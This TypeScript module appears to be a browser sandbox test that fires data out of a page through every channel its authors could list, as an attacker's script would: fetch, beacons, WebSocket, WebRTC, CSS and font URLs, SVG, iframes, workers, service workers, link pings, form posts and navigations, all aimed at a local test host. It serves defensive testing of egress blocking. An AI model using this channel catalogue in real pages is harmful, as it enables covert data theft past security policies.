/**
 * Every way out of a page that we could think of, as an attacker's script would try it. This runs inside the page, so it holds
 * all that it needs.
 */
export interface Targets {
	/** A folder of the host; the name of the route is added, so that its log tells which one arrived. */
	readonly http: string;
	/** Ports that take anything: for what makes no request that a log could name. */
	readonly tcp: number;
	readonly turn: number;
	readonly udp: number;
	readonly quic: number;
	/** A name that nobody but this route would look up. */
	readonly dns: string;
}

/** Tries all that leaves the page where it is. Gives back the names; whether anything arrived is for the server to say. */
export async function tryAll(targets: Targets): Promise<string[]> {
	const add = (tag: string, properties: object, parent: Element = document.body) => {
		const element = document.createElement(tag);
		parent.append(Object.assign(element, properties));
		return element;
	};
	const link = (rel: string) => (url: string) => add('link', { rel, href: url }, document.head);
	const preload = (as: string) => (url: string) => add('link', { rel: 'preload', as, href: url }, document.head);
	const svg = (tag: string) => (url: string) => {
		const space = 'http://www.w3.org/2000/svg';
		const picture = document.createElementNS(space, 'svg');
		const inner = document.createElementNS(space, tag);
		inner.setAttribute('href', url);
		picture.append(inner);
		document.body.append(picture);
	};
	const sheet = (text: string) => {
		const made = new CSSStyleSheet();
		made.replaceSync(text);
		document.adoptedStyleSheets = [...document.adoptedStyleSheets, made];
	};
	const frame = () => (add('iframe', {}) as HTMLIFrameElement).contentWindow as unknown as typeof globalThis & Window;
	const script = (url: string): string => {
		const types = (
			globalThis as {
				trustedTypes?: { createPolicy: (name: string, rules: object) => { createScriptURL: (url: string) => string } };
			}
		).trustedTypes;
		return types
			? types.createPolicy('signpost-worker', { createScriptURL: (given: string) => given }).createScriptURL(url)
			: url;
	};
	const newer = globalThis as unknown as Record<string, (...given: unknown[]) => unknown>;

	const ways: Record<string, (url: string) => unknown> = {
		fetch: (url) => fetch(url, { mode: 'no-cors' }),
		'fetch that outlives the page': (url) => fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'answer' }),
		fetchLater: (url) => newer['fetchLater']?.(url, { activateAfter: 0 }),
		XMLHttpRequest: (url) => {
			const request = new XMLHttpRequest();
			request.open('POST', url);
			request.send('answer');
		},
		sendBeacon: (url) => navigator.sendBeacon(url, 'answer'),
		EventSource: (url) => new EventSource(url),
		WebSocket: (url) => new WebSocket(url.replace('http', 'ws')),
		WebTransport: () => new WebTransport(`https://127.0.0.1:${targets.quic}/answer`),
		WebRTC: async () => {
			const urls = [`stun:127.0.0.1:${targets.udp}`, `turn:127.0.0.1:${targets.turn}?transport=tcp`];
			const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'answer', credential: 'answer' }] });
			peer.createDataChannel('answer');
			await peer.setLocalDescription();
		},
		image: (url) => (new Image().src = url),
		'image in a srcset': (url) => add('img', { srcset: `${url} 1x` }),
		'image as a button': (url) => add('input', { type: 'image', src: url }),
		audio: (url) => add('audio', { src: url, preload: 'auto' }),
		video: (url) => add('video', { src: url, preload: 'auto' }),
		'poster of a video': (url) => add('video', { poster: url }),
		'track of a video': (url) => {
			const video = add('video', {}) as HTMLVideoElement;
			const track = add('track', { src: url, default: true }, video) as HTMLTrackElement;
			track.track.mode = 'showing';
		},
		'style sheet': link('stylesheet'),
		icon: link('icon'),
		manifest: link('manifest'),
		prefetch: link('prefetch'),
		'preload of an image': preload('image'),
		'preload of a script': preload('script'),
		'preload of a font': preload('font'),
		modulepreload: link('modulepreload'),
		preconnect: () => link('preconnect')(`http://127.0.0.1:${targets.tcp}`),
		'dns-prefetch': () => link('dns-prefetch')(`http://${targets.dns}`),
		'speculation rules': (url) =>
			add('script', {
				type: 'speculationrules',
				textContent: JSON.stringify({ prefetch: [{ urls: [url], eagerness: 'immediate' }] })
			}),
		'style element': (url) => add('style', { textContent: `@import url(${url})` }, document.head),
		'style attribute': (url) => add('p', { textContent: 'x' }).setAttribute('style', `background: url(${url})`),
		'style property': (url) => (add('p', { textContent: 'x' }).style.backgroundImage = `url(${url})`),
		'rule of a made sheet': (url) => sheet(`body { border-image: url(${url}) 1 }`),
		'rule of our own sheet': (url) => document.styleSheets[0]?.insertRule(`main { background: url(${url}) }`),
		'font by script': (url) => new FontFace('way-a', `url(${url})`).load(),
		'font by style': (url) => {
			sheet(`@font-face { font-family: way-b; src: url(${url}) } .way-b { font-family: way-b }`);
			add('p', { className: 'way-b', textContent: 'answer' });
		},
		'SVG use': svg('use'),
		'SVG image': svg('image'),
		'SVG filter': svg('feImage'),
		iframe: (url) => add('iframe', { src: url }),
		object: (url) => add('object', { data: url }),
		embed: (url) => add('embed', { src: url }),
		'fetch of an empty frame': (url) => frame().fetch(url, { mode: 'no-cors' }),
		'image of an empty frame': (url) => {
			const inner = frame();
			const image = inner.document.createElement('img');
			image.src = url;
			inner.document.body.append(image);
		},
		'script element': (url) => add('script', { src: url }, document.head),
		'import()': (url) => import(/* @vite-ignore */ url),
		Worker: (url) => new Worker(url),
		SharedWorker: (url) => new SharedWorker(url),
		'worker from a blob': (url) =>
			new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)}, { mode: 'no-cors' })`]))),
		worklet: (url) => new AudioContext().audioWorklet.addModule(url),
		'service worker': (url) => navigator.serviceWorker.register(script(url)),
		'message to a service worker': () => navigator.serviceWorker.controller?.postMessage('answer'),
		'ping of a link': (url) => {
			const anchor = add('a', { href: '#answer', ping: url, textContent: 'x' });
			anchor.click();
		},
		'form into a frame': (url) => {
			add('iframe', { name: 'way-out' });
			const form = add('form', { action: url, method: 'post', target: 'way-out' }) as HTMLFormElement;
			add('input', { name: 'answer', value: 'answer' }, form);
			form.submit();
		},
		'payment request': (url) =>
			new PaymentRequest([{ supportedMethods: url }], {
				total: { label: 'x', amount: { currency: 'EUR', value: '1' } }
			}).canMakePayment()
	};
	for (const [name, way] of Object.entries(ways)) {
		try {
			const done = way(`${targets.http}${encodeURIComponent(name)}?answer=seizure`);
			// A refusal may come late; it must not stop the others.
			if (done instanceof Promise) done.catch(() => undefined);
		} catch {
			// Refused at once.
		}
	}
	await new Promise((resolve) => setTimeout(resolve, 1500));
	return Object.keys(ways);
}

/** Ways that end the page, or open another: each is tried in a page of its own. */
export const LEAVING = {
	'location of this tab': (url: string) => void (location.href = url),
	'link that is followed': (url: string) => {
		document.body.append(Object.assign(document.createElement('a'), { href: url, id: 'way-out' }));
		document.getElementById('way-out')?.click();
	},
	'link that downloads': (url: string) => {
		document.body.append(Object.assign(document.createElement('a'), { href: url, id: 'way-out', download: 'x' }));
		document.getElementById('way-out')?.click();
	},
	'window.open': (url: string) => void window.open(url),
	form: (url: string) => {
		const form = document.createElement('form');
		form.action = url;
		form.append(Object.assign(document.createElement('input'), { name: 'answer', value: 'answer' }));
		document.body.append(form);
		form.submit();
	},
	'meta refresh': (url: string) => {
		document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${url}` }));
	},
	'address of a script': (url: string) => void (location.href = `javascript:fetch(${JSON.stringify(url)},{mode:'no-cors'})`)
} as const;
